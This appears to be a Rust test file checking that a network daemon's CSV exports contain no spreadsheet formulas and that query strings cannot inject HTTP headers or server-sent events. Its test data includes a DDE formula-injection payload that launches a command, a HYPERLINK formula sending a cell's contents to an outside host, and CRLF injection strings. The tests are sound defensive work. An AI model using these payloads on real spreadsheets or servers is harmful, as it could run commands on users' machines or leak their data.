//! What is read by spreadsheets and by browsers' own parsers of events.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula. None of
//! natconnd's own columns can begin like that. The lines of a file that somebody else has
//! written stay as they are, byte for byte: whoever opens them in a spreadsheet has to say
//! that they are text (docs/bulk.md).

use std::time::Duration;

use lab::Error;
use natconnd::api::LineAnswer;

use crate::gateway::{Attacked, LIVE};
use crate::memory::MIB;
use crate::raw::{Raw, get, post};

/// What a spreadsheet would calculate.
const FORMULAS: [&str; 9] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://elsewhere.example/\"&A1)",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\u{ff1d}1+1",
    "\"=1+1\"",
    "%0A-2+3",
];

fn is_formula(cell: &str) -> bool {
    cell.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ])
}

#[test]
fn no_column_of_ours_is_a_formula() {
    lab::in_gateway!(|lab| {
        let attacked = Attacked::start(lab, "")?;
        let address = attacked.daemon.address;
        for target in [
            "/api/v1/connections?format=csv",
            "/api/v1/connections?format=csv&limit=5",
        ] {
            let text = get(address, target).text();
            let mut records = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(text.as_bytes());
            let records: Vec<_> = records.records().map(Result::unwrap).collect();
            assert!(records.len() > 5 && records.len() <= LIVE + 1);
            for cell in records.iter().flat_map(|record| record.iter()) {
                assert!(!is_formula(cell), "{cell:?}");
            }
        }
        let ours = LineAnswer::COLUMNS.len();
        for formula in FORMULAS {
            // Where a question is expected, where a time is, and beside both.
            let quoted = format!("\"{}\"", formula.replace('"', "\"\""));
            let body = format!(
                "nat,time,note\n{quoted},,\n100.64.2.1:40007,{quoted},\n100.64.2.1:40007,,{quoted}\n\
                 {quoted},{quoted},{quoted}\n"
            );
            let reply = post(address, "/api/v1/lookups?format=csv", "", body.as_bytes()).unwrap();
            assert_eq!(reply.status, 200, "{reply:?}");
            let text = reply.text();
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_reader(text.as_bytes());
            let records: Vec<_> = reader.records().map(Result::unwrap).collect();
            assert_eq!(records.len(), 5, "{text}");
            for record in &records {
                let cells: Vec<&str> = record.iter().collect();
                let own = &cells[cells.len() - ours..];
                assert!(own.iter().all(|cell| !is_formula(cell)), "{own:?}");
            }
            // What was sent is there as it was.
            for (sent, back) in body.lines().zip(text.lines()) {
                assert!(back.starts_with(sent), "{sent:?} became {back:?}");
            }
            let plain = post(
                address,
                "/api/v1/lookups",
                "",
                format!("{formula} 100.64.2.1:40007\n").as_bytes(),
            );
            let plain = plain.unwrap().text();
            let cells: Vec<&str> = plain
                .lines()
                .next()
                .unwrap()
                .rsplitn(ours + 1, '\t')
                .collect();
            assert!(
                cells[..ours].iter().all(|cell| !is_formula(cell)),
                "{plain:?}"
            );
        }
        attacked.end(16 * MIB);
        Ok::<(), Error>(())
    });
}

/// A follower is sent lines of ours, whatever it has asked for.
#[test]
fn nothing_asked_for_becomes_an_event() {
    lab::in_gateway!(|lab| {
        let attacked = Attacked::start(lab, "")?;
        let address = attacked.daemon.address;
        for q in [
            "%0A%0Adata:%20x-in%0A%0A",
            "%0D%0Aevent:%20x-in",
            "x-in%00",
            "udp%0Aid:%201",
        ] {
            let mut raw = Raw::connect(address);
            raw.send(
                format!("GET /api/v1/events?q={q} HTTP/1.1\r\nHost: gateway\r\n\r\n").as_bytes(),
            );
            let _one = lab.host(1).send_udp(50_000, lab.outside().at(443))?;
            let (text, _) = raw.rest(Duration::from_millis(300));
            let text = String::from_utf8_lossy(&text);
            let body = text.split_once("\r\n\r\n").map_or("", |(_, body)| body);
            assert!(
                !text.contains("\nX-In") && !body.contains("event: x-in"),
                "{text}"
            );
            if text.starts_with("HTTP/1.1 200") {
                for line in body.split(['\r', '\n']).filter(|it| !it.is_empty()) {
                    let is_chunk = line.bytes().all(|it| it.is_ascii_hexdigit());
                    let is_ours = [
                        ": ",
                        "event: started",
                        "event: ended",
                        "event: gap",
                        "data: {",
                    ]
                    .iter()
                    .any(|it| line.starts_with(it));
                    assert!(is_chunk || is_ours, "{line:?} in {text}");
                }
            }
        }
        attacked.end(8 * MIB);
        Ok::<(), Error>(())
    });
}

/// Nothing that is asked for becomes a header of the answer.
#[test]
fn nothing_asked_for_becomes_a_header() {
    lab::in_gateway!(|lab| {
        let attacked = Attacked::start(lab, "")?;
        let address = attacked.daemon.address;
        let it = "%0D%0AX-In:%20a%0D%0A%0D%0Ax-in";
        for target in [
            format!("/api/v1/connections?limit=1&q=udp&internal=192.168.248.0/24{it}"),
            format!("/api/v1/connections?limit=1&q={it}"),
            format!("/api/v1/connections?limit=1&nat=100.64.2.1&sort=nat&x={it}"),
            format!("/api/v1/records?from=2026-01-01T00:00:00Z{it}"),
            format!("/api/v1/forward-auth?client=192.168.248.2:40000{it}&protocol={it}"),
            format!("/desk/answers?text={it}"),
            format!("/{it}"),
        ] {
            let reply = get(address, &target);
            assert_eq!(reply.header("x-in"), None, "{target}: {reply:?}");
        }
        // The way to the next page repeats the question, and nothing of it is a line end.
        let reply = get(address, "/api/v1/connections?limit=1&q=udp+%20");
        let link = reply.header("link").unwrap();
        assert!(
            link.starts_with("</api/v1/connections?") && link.ends_with("rel=\"next\""),
            "{link}"
        );
        attacked.end(8 * MIB);
        Ok::<(), Error>(())
    });
}
